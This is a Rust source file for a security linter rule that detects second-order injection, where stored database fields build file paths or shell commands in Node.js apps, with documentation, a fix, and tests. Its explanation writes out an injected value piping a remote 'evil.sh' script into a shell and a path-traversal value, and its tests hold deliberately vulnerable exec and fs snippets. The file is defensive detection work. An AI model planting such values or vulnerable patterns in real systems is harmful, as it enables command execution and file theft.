//! `MW036` `stored-value-in-path-or-command`: a field of a database record in a file path or a
//! shell command — a second-order write (issue 12 class 10).

use crate::{Rule, RuleContext, RuleDocs, RuleMeta};
use eggsec_js::flow::SinkKind;
use eggsec_report::{Confidence, Severity, Strategy};

pub struct StoredValueInPathOrCommand;

static META: RuleMeta = RuleMeta {
    code: "MW036",
    name: "stored-value-in-path-or-command",
    strategy: Strategy::Middleware,
    severity: Severity::Medium,
    confidence: Confidence::Low,
    control: "Values read back from the database are checked before they build paths or commands",
    docs: RuleDocs {
        what: r#"Finds a text field of a record read from the database (`ctx.model.X.findOne()`, `app.mysql.get()`, mongoose, leoric...) used in a file path (`fs.*`, `koa-send`) or a shell command (`child_process.exec`, `execa.command`), directly or through locals of the same function: `exec('tar czf out.tgz ' + project.repoDir)`, `path.join(dir, user.avatarName)`. Ids, counts, dates, `status` and `type` fields are not reported, nor a value passed through `path.basename`, `Number()` or a shell-escaping function. Confidence is low: eggsec cannot see whether the field was checked when it was stored, or whether users can write it at all."#,
        why: r#"A second-order injection: the value was stored by an earlier request (a profile form, a project setting, an upload's original name), so the request that triggers the write never carries the payload and request-data rules stay quiet. `repoDir = "x; curl evil.sh | sh"` runs a command; `avatarName = "../../config/config.prod.js"` reads or overwrites a file outside the folder."#,
        bad: r#"const project = await ctx.model.Project.findOne({ where: { id } });
exec('tar czf /tmp/out.tgz ' + project.repoDir);"#,
        good: r#"const project = await ctx.model.Project.findOne({ where: { id } });
// no shell, the value is one argument; and it must stay inside the workspace
const dir = path.resolve(WORKSPACE, path.basename(project.repoDir));
execFile('tar', [ 'czf', '/tmp/out.tgz', dir ]);"#,
        fix: r#"Treat stored values like request data: validate them when they are stored (a strict pattern for names, no `/` or `..`) and again when they are used — `path.basename` or a `path.resolve` + prefix check for files, `execFile`/`spawn` with an argument array (never a shell string) for commands."#,
    },
};

impl Rule for StoredValueInPathOrCommand {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, cx: &mut RuleContext<'_>) {
        super::sql_built_from_request::report_flows(
            cx,
            SinkKind::StoredValue,
            "Second-order write: a stored record field builds a file path or shell command",
            META.docs.fix,
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{model_with_controller, run_rule};

    #[test]
    fn hits() {
        for src in [
            "const { exec } = require('child_process');\nexports.b = async ctx => {\n  const project = await ctx.model.Project.findOne({ where: { id: 3 } });\n  exec('tar czf /tmp/o.tgz ' + project.repoDir);\n};",
            "const fs = require('fs'); const path = require('path');\nexports.a = async function (ctx) {\n  const user = await this.app.mysql.get('users', { id: ctx.session.uid });\n  const file = path.join(this.app.baseDir, 'uploads', user.avatarName);\n  ctx.body = fs.createReadStream(file);\n};",
            "const fs = require('fs/promises');\nexports.s = async ctx => {\n  const { folder } = await ctx.app.mysql.get('sites', { id: 1 });\n  await fs.writeFile(`/var/backups/${folder}/site.json`, 'x');\n};",
        ] {
            let f = run_rule(&StoredValueInPathOrCommand, &model_with_controller(src));
            assert_eq!(f.len(), 1, "{src}");
            assert!(f[0].evidence[0].starts_with("source "), "{:?}", f[0].evidence);
            assert!(f[0].evidence[0].contains("field `"), "{:?}", f[0].evidence);
        }
    }

    #[test]
    fn look_alikes_stay_quiet() {
        for src in [
            // basename'd
            "const fs = require('fs'); const path = require('path');\nexports.a = async ctx => {\n  const doc = await ctx.app.mysql.get('docs', { id: 1 });\n  ctx.body = fs.createReadStream(path.join('/srv/docs', path.basename(doc.fileName)));\n};",
            // a number from the record
            "const { exec } = require('child_process');\nexports.b = async ctx => {\n  const job = await ctx.model.Job.findOne({ where: { id: 2 } });\n  exec(`node report.js ${Number(job.size)} ${job.id}`);\n};",
            // the record's content written to a fixed file (only the path is checked)
            "const fs = require('fs');\nexports.c = async ctx => {\n  const row = await ctx.app.mysql.get('sites', { id: 1 });\n  fs.writeFileSync('/var/backups/site.json', row.content);\n};",
            // a config value, not a record
            "const fs = require('fs');\nexports.d = async function (ctx) {\n  ctx.body = fs.createReadStream(this.app.config.static.dir + '/index.html');\n};",
            // a remote API's answer is the outbound rule's business, not a stored record
            "const fs = require('fs');\nexports.e = async ctx => {\n  const res = await ctx.curl('https://api.example.com/x');\n  fs.writeFileSync('/tmp/' + res.headers.etag, 'x');\n};",
        ] {
            assert!(
                run_rule(&StoredValueInPathOrCommand, &model_with_controller(src)).is_empty(),
                "{src}"
            );
        }
    }
}
